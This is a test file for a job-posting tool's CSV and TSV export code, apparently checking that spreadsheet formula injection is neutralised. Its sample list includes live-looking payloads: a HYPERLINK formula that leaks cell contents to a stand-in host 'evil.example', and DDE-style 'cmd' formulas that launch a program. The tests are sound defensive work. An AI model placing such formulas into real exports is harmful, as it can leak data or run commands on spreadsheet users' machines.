import Papa from 'papaparse';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { emptyEntities } from '../../src/core/entities';
import {
  neutraliseCell,
  parseDelimited,
  toCSV,
  toTSV,
  toTSVRow,
  toTSVTable,
  unneutraliseCell,
  UTF8_BOM,
} from '../../src/core/export/delimited';
import { joinCell, SPREADSHEET_HEADER, toSpreadsheetRow, toSpreadsheetRows } from '../../src/core/export/rows';

// Values a hostile posting could carry, and what a spreadsheet must show for each.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for salary")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '-5',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uFF1D1+1',
  'he said "hi", then left',
  'a,b,c',
  'line one\nline two',
  'line one\r\nline two',
  'tab\tinside',
  '"starts with a quote',
  'Zürich, Genève — Ünïcødé 日本語 😀',
  '',
  '   ',
  "'already quoted",
  "'=already neutralised",
  "''+twice",
];

const isFormula = (v: string) => /^[ \u00a0]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(v);

describe('neutraliseCell (CSV injection, OWASP)', () => {
  it.each([
    ['=HYPERLINK("x")', `'=HYPERLINK("x")`],
    ['+cmd', `'+cmd`],
    ['-2+3', `'-2+3`],
    ['-5', `'-5`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    [' =1', `' =1`],
    ['\uFF1D1+1', `'\uFF1D1+1`],
    ['Python', 'Python'],
    ['C#', 'C#'],
    ['C++', 'C++'],
    ['a=b', 'a=b'],
    ['5-7 years', '5-7 years'],
    ['', ''],
    ["'=x", "''=x"],
    ["'plain", "'plain"],
  ])('%j -> %j', (value, expected) => {
    expect(neutraliseCell(value)).toBe(expected);
    expect(unneutraliseCell(neutraliseCell(value))).toBe(value);
  });
});

describe('toCSV', () => {
  const rows = [['Title', 'Skills'], ...HOSTILE.map((v, i) => [`row ${i}`, v])];

  it('starts with a UTF-8 BOM unless asked not to, and ends lines with CRLF', () => {
    const csv = toCSV(rows);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(toCSV(rows, { bom: false }).startsWith('"Title"')).toBe(true);
    expect(toCSV([], { bom: false })).toBe('');
    expect(new TextEncoder().encode(toCSV([['é']])).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('quotes every field and doubles inner quotes', () => {
    expect(toCSV([['a', 'b"c', 'd,e']], { bom: false })).toBe('"a","b""c","d,e"\r\n');
    expect(toCSV([['x\ny']], { bom: false })).toBe('"x\ny"\r\n');
  });

  it('round-trips through papaparse: the original text, minus neutralisation', () => {
    const parsed = Papa.parse<string[]>(toCSV(rows).slice(1), { skipEmptyLines: true }).data;
    expect(parsed).toHaveLength(rows.length);
    parsed.forEach((row, i) => {
      expect(row).toHaveLength(2);
      expect(row.map(unneutraliseCell)).toEqual(rows[i]);
    });
    expect(parseDelimited(toCSV(rows))).toEqual(rows.map((r) => r.map(neutraliseCell)));
  });

  it('leaves no cell that a spreadsheet would run', () => {
    for (const row of parseDelimited(toCSV(rows)))
      for (const cell of row) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
  });

  // Any text, and text that starts with the characters that matter here.
  const cellText = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc
      .tuple(
        fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', '\uFF1D'), { maxLength: 3 }),
        fc.string(),
      )
      .map(([a, b]) => a.join('') + b),
  );

  it('keeps any text intact and inert (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cellText, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (data) => {
          const width = Math.max(...data.map((r) => r.length));
          const square = data.map((r) => [...r, ...Array(width - r.length).fill('x')]);
          // A CSV reader knows the delimiter; papaparse would otherwise guess it from the content (e.g. '|').
          const parsed = Papa.parse<string[]>(toCSV(square, { bom: false }), {
            delimiter: ',',
            skipEmptyLines: false,
          }).data.slice(0, square.length);
          expect(parsed.map((r) => r.map(unneutraliseCell))).toEqual(square);
          for (const r of parsed) for (const c of r) expect(isFormula(c)).toBe(false);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('toTSV (file)', () => {
  const rows = [['Title', 'Skills'], ...HOSTILE.map((v, i) => [`row ${i}`, v])];

  it('round-trips through papaparse with tabs, quotes and newlines inside values', () => {
    const tsv = toTSV(rows);
    expect(tsv.startsWith('Title\tSkills\n')).toBe(true);
    const parsed = parseDelimited(tsv, '\t');
    expect(parsed.map((r) => r.map(unneutraliseCell))).toEqual(rows);
    for (const row of parsed) for (const cell of row) expect(isFormula(cell)).toBe(false);
  });

  it('quotes only what needs it', () => {
    expect(toTSV([['a b', 'c,d']])).toBe('a b\tc,d\n');
    expect(toTSV([['a\tb', 'c']])).toBe('"a\tb"\tc\n');
  });
});

describe('toTSVRow (clipboard)', () => {
  it('is one line with one cell per column: tabs and line breaks become spaces', () => {
    const row = toTSVRow(['Engineer\tII', 'Acme\nInc', 'Paris\r\nFrance', 'C#; SQL']);
    expect(row).toBe('Engineer II\tAcme Inc\tParis France\tC#; SQL');
    expect(row.split('\t')).toHaveLength(4);
    expect(row).not.toMatch(/[\r\n]/);
  });

  it('neutralises formulas, including a tab-led one, and quotes a leading quote', () => {
    const cells = toTSVRow(HOSTILE).split('\t');
    expect(cells).toHaveLength(HOSTILE.length);
    for (const c of cells) expect(isFormula(c), JSON.stringify(c)).toBe(false);
    expect(cells[0]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click for salary")`);
    expect(cells[6]).toBe("' =1+1");
    expect(cells[HOSTILE.indexOf('"starts with a quote')]).toBe('"""starts with a quote"');
    // A spreadsheet's paste parser (papaparse with the same rules) gives the values back.
    const pasted = parseDelimited(toTSVRow(['"quoted" start', 'plain']), '\t')[0];
    expect(pasted).toEqual(['"quoted" start', 'plain']);
  });

  it('builds a table of header and rows', () => {
    expect(
      toTSVTable([
        ['A', 'B'],
        ['1', '=2'],
      ]),
    ).toBe("A\tB\n1\t'=2");
  });
});

describe('spreadsheet rows', () => {
  const entities = {
    ...emptyEntities(),
    diploma: ['ba / bs / ms'],
    diploma_major: ['computer science', 'engineering'],
    experience: ['2 + years', '2 + years'],
    skills: ['c #', 'node . js', 'C #', 'sql', 'c #', 'objective - c'],
  };

  it('has the popup columns in order', () => {
    expect(SPREADSHEET_HEADER).toEqual([
      'Title',
      'Company',
      'Location',
      'URL',
      'Diploma',
      'Major',
      'Experience',
      'Skills',
    ]);
  });

  it('joins values with "; " in display form, repeats once', () => {
    const row = toSpreadsheetRow(
      { title: 'Backend Engineer', company: 'Acme', location: 'Lyon', url: 'https://acme.example/jobs/1' },
      entities,
    );
    expect(row).toEqual([
      'Backend Engineer',
      'Acme',
      'Lyon',
      'https://acme.example/jobs/1',
      'BA/BS/MS',
      'computer science; engineering',
      '2+ years',
      'C#; Node.js; SQL; Objective-C',
    ]);
    expect(joinCell([])).toBe('');
  });

  it('fills missing posting fields with empty cells', () => {
    expect(toSpreadsheetRow({}, emptyEntities())).toEqual(['', '', '', '', '', '', '', '']);
  });

  it('makes a CSV a spreadsheet reads back', () => {
    const rows = toSpreadsheetRows([
      { posting: { title: '=cmd', company: 'A, "B"', location: 'Zürich', url: 'https://x.example/1' }, entities },
      { posting: { title: 'Two' }, entities: emptyEntities() },
    ]);
    const back = parseDelimited(toCSV(rows));
    expect(back).toHaveLength(3);
    expect(back[0]).toEqual([...SPREADSHEET_HEADER]);
    expect(back[1].slice(0, 3)).toEqual(["'=cmd", 'A, "B"', 'Zürich']);
    expect(back[2][0]).toBe('Two');
  });
});
